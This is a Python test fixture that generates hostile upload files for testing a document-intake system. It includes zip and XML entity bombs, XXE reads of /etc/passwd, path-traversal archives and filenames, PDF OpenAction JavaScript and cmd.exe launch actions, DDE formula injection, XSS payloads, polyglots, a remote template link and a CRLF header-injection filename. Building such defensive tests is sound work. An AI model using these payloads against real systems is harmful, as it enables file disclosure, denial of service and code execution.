"""Hostile files, made in the test, each with the name under which it is handed in."""

# ruff: noqa: S108 - what climbs, climbs there
from __future__ import annotations

import gzip
import io
import struct
import tarfile
import zipfile
import zlib
from functools import lru_cache

import openpyxl
from PIL import Image

from tests.statements.intake.files import pdf, word

# Whatever of it is found on the disk, outside of the folder of stored files, was written by a file.
MARK = "hostile-mark-5521"
PDF, BIDI = "list.pdf", "annex\u202efdp.exe"


def zipped(**parts: bytes | str) -> bytes:
    """Return a zip with these parts; `__` in a name stands for a stroke."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, part in parts.items():
            archive.writestr(name.replace("__", "/"), part)
    return out.getvalue()


def with_parts(document: bytes, **parts: bytes | str) -> bytes:
    """Return a zip with the parts of another, these changed or added."""
    out, named = io.BytesIO(), {name.replace("__", "/"): part for name, part in parts.items()}
    with zipfile.ZipFile(io.BytesIO(document)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            if name not in named:
                new.writestr(name, old.read(name))
        for name, part in named.items():
            new.writestr(name, part)
    return out.getvalue()


def workbook(*rows: tuple[object, ...]) -> bytes:
    """Return an XLSX with these rows."""
    book = openpyxl.Workbook()
    for row in rows:
        book.active.append(row)  # type: ignore[union-attr]
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def scripted_pdf(*, action: str) -> bytes:
    """Return a small PDF that acts when it is opened."""
    return pdf([["Words of a release."]]).replace(
        b"/Type /Catalog", b"/Type /Catalog\n/OpenAction << " + action.encode() + b" >>"
    )


def bomb_of_pictures() -> bytes:
    """Return a PNG that says to have 60,000 × 60,000 points."""
    head = struct.pack(">IIBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0)

    def chunk(name: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(bytes(10_000))) + chunk(b"IEND", b"")
    )


def photograph() -> bytes:
    """Return a JPEG with a megabyte of EXIF, as much of it as the format takes."""
    exif = Image.Exif()
    exif[0x010E] = MARK * 3_000
    out = io.BytesIO()
    Image.new("RGB", (8, 8)).save(out, "JPEG", exif=exif)
    return out.getvalue()


def tarred() -> bytes:
    """Return a tar that would write above the folder in which it is unpacked."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as archive:
        found = tarfile.TarInfo(f"../../{MARK}")
        found.size = 4
        archive.addfile(found, io.BytesIO(b"evil"))
    return out.getvalue()


LAUGHS = '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha">' + "".join(
    f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9)
)
OUTER = '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_BODY = f"<w:document {_W}><w:body><w:p><w:r><w:t>&%s;</w:t></w:r></w:p></w:body></w:document>"
_RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
_SHEET = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'


@lru_cache(maxsize=1)
def hostile_files() -> list[tuple[str, bytes]]:
    """Return the name and the bytes of each file."""
    plain, sheet = word(["Words of a release."]), workbook(("name", "country"), ("Ana", "KHM"))
    outer = f'<Relationships xmlns="{_RELATIONS}"><Relationship Id="a" Type="x/attachedTemplate" TargetMode="External" '
    nested = zipped(**{f"{n}.bin": bytes(10**6) for n in range(40)})
    page = "<html><body><p>Words of a release.</p>"
    return [
        # What unpacks to more than there is room for.
        ("bomb.docx", with_parts(plain, **{"word/a.xml": bytes(41_000_000)})),
        ("bomb.xlsx", with_parts(sheet, xl__worksheets__sheet1__xml=bytes(41_000_000))),
        ("nested.docx", zipped(word__document__xml="x", a__zip=nested, **{f"b{n}.zip": nested for n in range(20)})),
        ("many.docx", with_parts(plain, **{f"word__p{n}.xml": "" for n in range(5_100)})),
        ("laughs.docx", with_parts(plain, **{"word/document.xml": LAUGHS + "]>" + _BODY % "j"})),
        ("laughs.xlsx", with_parts(sheet, **{"xl/workbook.xml": f"{LAUGHS}]><workbook {_SHEET}>&j;</workbook>"})),
        ("laughs.html", LAUGHS.encode() + b"]><html><body><p>&j;</p></body></html>"),
        ("deep.html", b"<html><body>" + b"<div>" * 60_000 + b"Words."),
        ("deep.pdf", b"%PDF-1.7\n1 0 obj\n" + b"[" * 200_000),
        ("streams.pdf", pdf([["Words."]]).replace(b"/Length", b"/Filter [" + b"/FlateDecode " * 500 + b"] /Length")),
        ("picture.png", bomb_of_pictures()),
        ("gz.txt", gzip.compress(bytes(20_000_000))),
        # What reads files of the server, or would write them.
        ("outer.docx", with_parts(plain, **{"word/document.xml": OUTER + _BODY % "x"})),
        ("outer.xlsx", with_parts(sheet, **{"xl/sharedStrings.xml": f"{OUTER}<sst {_SHEET}><t>&x;</t></sst>"})),
        ("outer.html", OUTER.encode() + b"<html><body><p>&x; Words.</p><iframe src='file:///etc/passwd'></iframe>"),
        ("climbing.docx", with_parts(plain, **{f"../../../{MARK}": "evil", f"/tmp/{MARK}": "evil"})),
        ("climbing.tar.gz", tarred()),
        ("template.docx", with_parts(plain, **{"word/_rels/settings.xml.rels": outer + 'Target="http://x.example/"/></Relationships>'})),
        # What runs something where it is opened.
        ("script.pdf", scripted_pdf(action="/S /JavaScript /JS (app.alert\\(1\\))")),
        ("launch.pdf", scripted_pdf(action="/S /Launch /F (cmd.exe)")),
        ("macros.docx", with_parts(plain, **{"word/vbaProject.bin": MARK})),
        ("macros.xlsx", with_parts(sheet, **{"xl/vbaProject.bin": MARK})),
        ("dde.xlsx", workbook(("name", "country"), ("=cmd|' /C calc'!A0", "=HYPERLINK(\"http://x.example\")"))),
        ("dde.csv", b"name,country\r\n=cmd|' /C calc'!A0,@SUM(1)\r\n"),
        ("script.svg", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert(1)</script></svg>"),
        ("script.html", f"{page}<script>alert(1)</script><img src=x onerror=alert(1)>".encode()),
        ("letter.eml", b"From: a@x.example\r\nTo: b@x.example\r\nSubject: =?utf-8?q?=3Cscript=3E?=\r\nDate: x\r\n"
                       b"Content-Type: text/html\r\n\r\n<script>alert(1)</script><p>Words.</p>"),
        ("letters.eml", b"From: a@x.example\r\nTo: b\r\nSubject: c\r\nContent-Type: multipart/mixed; boundary=a\r\n"
                        b"\r\n--a\r\n" * 3_000),
        ("writers.eml", b"From: " + b"a@x.example, " * 20_000 + b"\r\nTo: b\r\nSubject: c\r\n\r\nWords."),
        # What is something else than it says, or two things at once.
        ("polyglot.pdf", b"<html><script>alert(1)</script>%PDF-1.4 PK\x03\x04"),
        ("polyglot.docx", b"GIF89a" + plain),
        ("polyglot.html", b"<!--" + pdf([["Words."]]) + b"--><script>alert(1)</script>"),
        ("photo.pdf", photograph()),
        ("photo.txt", photograph()),
        ("program.txt", b"MZ\x90\x00\x03" + bytes(500)),
        ("empty.pdf", b""),
        ("calendar.ics", b"BEGIN:VCALENDAR\r\n" * 20_000),
        ("rule.ics", b"BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:x\r\nBEGIN:VEVENT\r\nUID:a\r\n"
                     b"DTSTAMP:20220101T000000Z\r\n"
                     b"DTSTART:20220101T000000Z\r\nRRULE:FREQ=SECONDLY\r\nSUMMARY:<script>alert(1)</script>\r\nEND:VEVENT\r\n"
                     b"END:VCALENDAR\r\n"),
        # Names that lead elsewhere, or look like others.
        (f"../../../../tmp/{MARK}.txt", b"Words of a release."),
        (f"..\\..\\{MARK}.txt", b"Words of a release."),
        (BIDI, b"MZ\x90\x00\x03" + bytes(500)),
        ("a\r\nSet-Cookie: a=b.txt", b"Words of a release."),
        ("<img src=x onerror=alert(1)>.txt", b"Words of a release."),
        ("x" * 255 + ".txt", b"Words of a release."),
        (".htaccess", b"Words of a release."),
        ("nul.txt", b"Words \x00of a release."),
    ]  # fmt: skip
